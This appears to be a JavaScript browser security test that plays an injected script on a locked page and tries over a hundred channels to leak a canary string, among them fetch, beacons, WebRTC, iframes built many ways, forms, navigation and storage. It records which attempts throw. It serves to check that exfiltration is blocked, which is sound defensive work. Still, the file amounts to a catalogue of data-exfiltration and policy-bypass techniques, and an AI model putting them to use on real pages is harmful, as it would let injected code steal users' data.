// A script that got into the locked page and tries every way out for what is
// typed. It returns what became of each: whether it threw, or only that it ran.
async (canary, home, away, stun) => {
  // Set anew for each way, so that what gets out tells by which.
  let word, near, far, named;
  const begin = (way) => {
    word = `canary${canary}x${way}`;
    near = home + word; // on the page's own host
    far = away + word; // on another
    named = `//${word}.example.invalid/`; // in a name that would have to be looked up
  };
  const add = (tag, set = {}, attributes = {}) => {
    const element = document.createElement(tag);
    Object.assign(element, set);
    for (const [name, value] of Object.entries(attributes)) {
      element.setAttribute(name, value);
    }
    document.body.append(element);
    return element;
  };
  const each = (go) => () => Promise.all([near, far, "http:" + named].map(async (url) => go(url)));
  const script = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const sends = () => `fetch(${JSON.stringify(far)}); importScripts(${JSON.stringify(far)})`;
  const frame = (set) => add("iframe", set).contentWindow;
  const peer = async (window) => {
    const connection = new window.RTCPeerConnection({ iceServers: [{ urls: ["stun:" + stun, `stun:${word}.example.invalid`], username: word, credential: word }] });
    connection.createDataChannel(word);
    await connection.setLocalDescription(await connection.createOffer());
  };
  const link = (attributes) => {
    const a = document.createElement("a");
    for (const [name, value] of Object.entries(attributes)) {
      a.setAttribute(name, value);
    }
    return a;
  };
  const html = (text) => {
    document.body.insertAdjacentHTML("beforeend", text);
  };
  const rule = (text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets.push(sheet);
  };

  const ways = {
    // Requests.
    "fetch": each((url) => fetch(url)),
    "fetch, posted": each((url) => fetch(url, { method: "POST", body: word, mode: "no-cors", keepalive: true })),
    "fetchLater": each((url) => fetchLater(url, { activateAfter: 0 })),
    "XMLHttpRequest": each((url) => { const x = new XMLHttpRequest(); x.open("POST", url); x.send(word); }),
    "XMLHttpRequest, synchronous": each((url) => { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send(); }),
    "sendBeacon": each((url) => { Navigator.prototype.sendBeacon.call(navigator, url, word); }),
    "WebSocket": each((url) => { new WebSocket(url.replace("http", "ws"), word); }),
    "WebSocketStream": each((url) => new WebSocketStream(url.replace("http", "ws")).opened),
    "EventSource": each((url) => { new EventSource(url); }),
    "WebTransport": each((url) => new WebTransport(url.replace("http:", "https:")).ready),
    "peer connection": () => peer(window),
    "peer connection, vendor's": () => peer({ RTCPeerConnection: webkitRTCPeerConnection }),
    "import": each((url) => import(url)),
    "payment": each((url) => new PaymentRequest([{ supportedMethods: url }], { total: { label: word, amount: { currency: "INR", value: "1" } } }).show()),
    "credentials": each((url) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: word }] } })),
    "stored password": () => navigator.credentials.store(new PasswordCredential({ id: word, password: word })),
    "share": () => navigator.share({ text: word }),
    "speech": () => { speechSynthesis.speak(new SpeechSynthesisUtterance(word)); },
    "notification": each((url) => { new Notification(word, { icon: url, image: url }); }),
    "media session": each((url) => { navigator.mediaSession.metadata = new MediaMetadata({ title: word, artwork: [{ src: url }] }); }),
    "protocol handler": () => navigator.registerProtocolHandler("web+canary", near + "?%s"),
    "interest group": () => navigator.joinAdInterestGroup({ name: word, owner: location.origin, updateURL: near, biddingLogicURL: near }, 1000),
    "shared storage": each((url) => sharedStorage.worklet.addModule(url)),
    "topics": () => document.browsingTopics(),
    "worklet": each((url) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url)),
    "paint worklet": each((url) => CSS.paintWorklet.addModule(url)),
    "font": each((url) => new FontFace(word, `url(${url})`).load()),

    // Elements that ask for something.
    "img": each((url) => { add("img", { src: url }); }),
    "img, attribution": each((url) => { add("img", {}, { attributionsrc: url }); }),
    "img, srcset": each((url) => { add("img", { srcset: url + " 1x" }); }),
    "image object": each((url) => { new Image().src = url; }),
    "svg image": each((url) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      for (const tag of ["image", "use", "feImage"]) {
        const e = document.createElementNS("http://www.w3.org/2000/svg", tag);
        e.setAttributeNS("http://www.w3.org/1999/xlink", "href", url);
        svg.append(e);
      }
      document.body.append(svg);
    }),
    "input image": each((url) => { add("input", { type: "image", src: url }); }),
    "audio": each((url) => { new Audio(url).play().catch(() => {}); }),
    "video": each((url) => { add("video", { src: url, poster: url }); }),
    "track": each((url) => { const t = document.createElement("track"); t.src = url; t.track.mode = "showing"; add("video").append(t); }),
    "body background": each((url) => { document.body.setAttribute("background", url); }),
    "script": each((url) => { add("script", { src: url }); }),
    "script, module": each((url) => { add("script", { src: url, type: "module" }); }),
    "script, inline": () => { add("script", { text: `fetch(${JSON.stringify(far)})` }); },
    "speculation rules": () => { add("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ source: "list", urls: [near, far] }], prerender: [{ source: "list", urls: [near, far] }] }) }); },
    "event handler": () => { html(`<img src="data:," onerror="fetch('${far}')">`); },
    "object": each((url) => { add("object", { data: url }); }),
    "embed": each((url) => { add("embed", { src: url }); }),
    "link, stylesheet": each((url) => { add("link", { rel: "stylesheet", href: url }); }),
    ...Object.fromEntries(["prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "prerender", "icon", "manifest"].map((rel) =>
      ["link, " + rel, each((url) => { document.head.append(Object.assign(document.createElement("link"), { rel, href: url, as: "image" })); })])),
    ...Object.fromEntries(["prefetch", "preload", "preconnect", "dns-prefetch", "icon", "manifest"].map((rel) =>
      ["a link of the page, changed to " + rel, each((url) => {
        const old = document.querySelector("link");
        const copy = old.cloneNode();
        copy.removeAttribute("integrity");
        copy.rel = rel;
        copy.as = "image";
        copy.href = url;
        old.after(copy);
      })])),
    "the page's links, changed": each((url) => {
      for (const l of document.querySelectorAll("link")) {
        l.removeAttribute("integrity");
        l.href = url;
      }
    }),
    ...Object.fromEntries(Object.entries({
      "setAttribute": (l, name, value) => l.setAttribute(name, value),
      "setAttributeNS": (l, name, value) => l.setAttributeNS(null, name, value),
      "attributes": (l, name, value) => { l.attributes[name].value = value; },
      "getAttributeNode": (l, name, value) => { l.getAttributeNode(name).value = value; },
      "XPath": (l, name, value) => { document.evaluate(`//link[@rel="${l.rel}"]/@${name}`, document).iterateNext().value = value; },
      "createAttribute": (l, name, value) => { const a = document.createAttribute(name); a.value = value; l.setAttributeNode(a); },
      "relList": (l, name, value) => { name === "rel" ? l.relList.add(value) : (l.href = value); },
    }).map(([how, change]) => ["the page's links, changed by " + how, each((url) => {
      for (const l of document.querySelectorAll("link")) {
        change(l, "href", url);
        change(l, "rel", "preconnect");
      }
    })])),
    "the page's script, changed": each((url) => { const s = document.querySelector("script[src]"); s.after(s.cloneNode()); s.src = url; }),
    "style, inline": each((url) => { add("style", { textContent: `@import "${url}"; body { background: url(${url}) }` }); }),
    "style attribute": each((url) => { add("p", {}, { style: `background: url(${url})` }); }),
    "style property": each((url) => { document.body.style.backgroundImage = `url(${url})`; document.body.style.cursor = `url(${url}), auto`; }),
    "style sheet, made": each((url) => { rule(`body { list-style: url(${url}) } @font-face { font-family: x${canary}; src: url(${url}) } h1 { font-family: x${canary} }`); }),
    "style sheet, imported": each((url) => { document.styleSheets[0].insertRule(`@import url(${url})`); }),
    "meta refresh": each((url) => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + url })); }),
    "the page's meta, changed to refresh": each((url) => { const m = document.querySelector("meta[name=description]"); const c = m.cloneNode(); c.removeAttribute("name"); c.httpEquiv = "refresh"; c.content = "0;url=" + url; m.after(c); }),
    "meta, reports": each((url) => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri " + url })); new Image().src = url; }),

    // Workers, and what runs later.
    "worker": each((url) => { new Worker(url); }),
    "worker, blob": () => { new Worker(script(sends())); },
    "worker, data": () => { new Worker("data:text/javascript," + encodeURIComponent(sends())); },
    "shared worker": each((url) => { new SharedWorker(url); }),
    "shared worker, blob": () => { new SharedWorker(script(sends())); },
    "service worker, new": () => navigator.serviceWorker.register("sw.js?" + word),
    "service worker, told": () => { navigator.serviceWorker.controller.postMessage({ fetch: far, use: word }); },
    "service worker, registration": async () => (await navigator.serviceWorker.getRegistration()).update(),
    "background sync": async () => (await navigator.serviceWorker.ready).sync.register(word),
    "background fetch": async () => (await navigator.serviceWorker.ready).backgroundFetch.fetch(word, [near]),
    "push": async () => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: word }),

    // Windows of their own, which would have what was taken from this one.
    "frame, empty": () => peer(frame()),
    "frame, by URL": each((url) => { frame({ src: url }); }),
    "frame, srcdoc": () => { frame({ srcdoc: `<img src="${far}">` }); },
    "frame, by text": () => { html(`<iframe id="f"></iframe>`); return peer(document.getElementById("f").contentWindow); },
    "frame, by upper-case text": () => { html(`<IFRAME id="f"></IFRAME>`); return peer(document.getElementById("f").contentWindow); },
    "frame, by innerHTML": () => { document.body.firstElementChild.innerHTML = "<iframe id=g></iframe>"; return peer(document.getElementById("g").contentWindow); },
    "frame, by range": () => { document.body.append(document.createRange().createContextualFragment("<iframe></iframe>")); return peer(frames[0]); },
    "frame, by template": () => { const t = document.createElement("template"); t.innerHTML = "<iframe></iframe>"; document.body.append(t.content); return peer(frames[0]); },
    "frame, by unsafe text": () => { document.body.firstElementChild.setHTMLUnsafe("<iframe></iframe>"); return peer(frames[0]); },
    "frame, by safe text": () => { document.body.firstElementChild.setHTML("<iframe></iframe>", { sanitizer: {} }); return peer(frames[0]); },
    "frame, by parser": () => { document.body.append(document.adoptNode(new DOMParser().parseFromString("<iframe></iframe>", "text/html").body.firstChild)); return peer(frames[0]); },
    "frame, by static parser": () => { document.body.append(document.adoptNode(Document.parseHTMLUnsafe("<iframe></iframe>").body.firstChild)); return peer(frames[0]); },
    "frame, by another document": () => { document.body.append(document.adoptNode(document.implementation.createHTMLDocument().createElement("iframe"))); return peer(frames[0]); },
    "frame, by an empty document": () => { document.body.append(document.adoptNode(new Document().createElementNS("http://www.w3.org/1999/xhtml", "iframe"))); return peer(frames[0]); },
    "frame, by an XML document": () => { document.body.append(document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement)); return peer(frames[0]); },
    "frame, by XML text": () => { const d = new Document(); d.append(d.createElement("x")); d.documentElement.innerHTML = `<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>`; document.body.append(document.adoptNode(d.documentElement.firstChild)); return peer(frames[0]); },
    "frame, by custom element": () => { customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); document.body.append(new (customElements.get("x-f"))()); return peer(frames[0]); },
    "frame, by XSLT": () => { new XSLTProcessor(); },
    "frame, by command": () => { document.designMode = "on"; document.execCommand("selectAll"); document.execCommand("insertHTML", false, "<iframe></iframe>"); document.designMode = "off"; return peer(frames[0]); },
    "frame, past a changed check": () => {
      const has = Object.getOwnPropertyDescriptor(Element.prototype, "localName");
      Object.defineProperty(Element.prototype, "localName", { get: () => "p", configurable: true });
      const { exec } = RegExp.prototype;
      RegExp.prototype.exec = () => null;
      try { return peer(frame()); } finally { Object.defineProperty(Element.prototype, "localName", has); RegExp.prototype.exec = exec; }
    },
    "frame, past the original": () => peer(add.call({}, Document.prototype.createElement.call(document, "iframe")).contentWindow),
    "window": each((url) => { window.open(url); }),
    "window, by document": each((url) => { document.open(url, "_blank", ""); }),
    "window, empty": () => peer(window.open("")),
    "picture in picture": async () => peer(await documentPictureInPicture.requestWindow()),
    "document written": () => { document.write(`<img src="${far}">`); },

    // Leaving for an address with the data in it.
    "link, clicked": each((url) => { link({ href: url }).click(); }),
    "link, event": each((url) => { link({ href: url }).dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })); }),
    "link, new window": each((url) => { link({ href: url, target: "_blank" }).click(); }),
    "link, new window, event": each((url) => { link({ href: url, target: "_blank" }).dispatchEvent(new MouseEvent("click", { ctrlKey: true })); }),
    "link, in the page": each((url) => { const a = link({ href: url, target: "_blank" }); document.body.append(a); a.click(); a.dispatchEvent(new MouseEvent("click")); }),
    "link, a word in it": each((url) => { const a = link({ href: url, target: "_blank" }); const s = document.createElement("span"); a.append(s); s.click(); s.dispatchEvent(new MouseEvent("click", { bubbles: true })); }),
    "link, in a shadow": each((url) => { const host = document.createElement("div"); const a = link({ href: url, target: "_blank" }); host.attachShadow({ mode: "closed" }).append(a); document.body.append(host); a.dispatchEvent(new MouseEvent("click")); }),
    "link, svg": each((url) => {
      const a = document.createElementNS("http://www.w3.org/2000/svg", "a");
      a.setAttribute("href", url);
      a.setAttribute("target", "_blank");
      a.dispatchEvent(new MouseEvent("click"));
    }),
    "link, area": each((url) => { const a = document.createElement("area"); a.href = url; a.target = "_blank"; a.click(); }),
    "link, ping": each((url) => { link({ href: "#city", ping: url }).click(); }),
    "link, download": each((url) => { link({ href: url, download: word }).click(); }),
    "a link of the page, changed": each((url) => { const a = document.querySelector("footer a"); a.href = url; a.click(); }),
    "form": each((url) => { const f = add("form", { action: url, method: "post" }); f.append(Object.assign(document.createElement("input"), { name: "x", value: word })); try { f.submit(); f.requestSubmit(); } finally { f.remove(); } }), // browsers keep what stands in a form that a script makes, to restore it
    "form, new window": each((url) => { add("form", { action: url, target: "_blank" }).submit(); }),
    "form, of the page": each((url) => {
      const f = document.getElementById("applicant").cloneNode();
      f.action = url;
      f.target = "_blank";
      document.body.append(f);
      const b = document.createElement("button");
      f.append(b);
      b.click();
      f.requestSubmit();
    }),
    "identity": each((url) => IdentityCredential.disconnect({ configURL: url, clientId: word, accountHint: word })),
    "location": each((url) => { location = url; }),
    "location, replaced": each((url) => { location.replace(url); }),
    "location, query": () => { location.search = word; },
    "location, fragment": () => { location.hash = word; },
    "location, script": () => { location = `javascript:fetch("${far}")`; },
    "location, data": () => { location = "data:text/html," + word; },
    "location, blob": () => { location = script(word); },
    "navigation": each((url) => navigation.navigate(url)),
    "history": () => { history.pushState(word, word, "?" + word); },
    "history, prototype": () => { History.prototype.replaceState.call(history, word, "", "#" + word); },

    // What would stay on the device.
    "cookie": () => { document.cookie = "canary=" + word; },
    "cookie store": () => cookieStore.set("canary", word),
    "local storage": () => { localStorage.canary = word; },
    "session storage": () => { sessionStorage.canary = word; },
    "IndexedDB": () => { indexedDB.open(word); },
    "cache": async () => (await caches.open(word)).put("/" + word, new Response(word)),
    "file system": async () => (await navigator.storage.getDirectory()).getFileHandle(word, { create: true }),
    "storage access": async () => (await document.requestStorageAccess({ all: true })).localStorage.setItem("canary", word),
    "storage buckets": () => navigator.storageBuckets.open("canary" + canary),
    "window name": () => { name = word; },
    "other tabs": () => { new BroadcastChannel("canary").postMessage(word); },
    "locks": () => navigator.locks.request(word, () => new Promise(() => {})),
  };
  const outcomes = {};
  for (const [n, [way, go]] of Object.entries(ways).entries()) {
    begin(n);
    try {
      await Promise.race([go(), new Promise((resolve) => setTimeout(resolve, 20))]);
      outcomes[way] = "ran";
    } catch (error) {
      outcomes[way] = String(error);
    }
  }
  return outcomes;
}
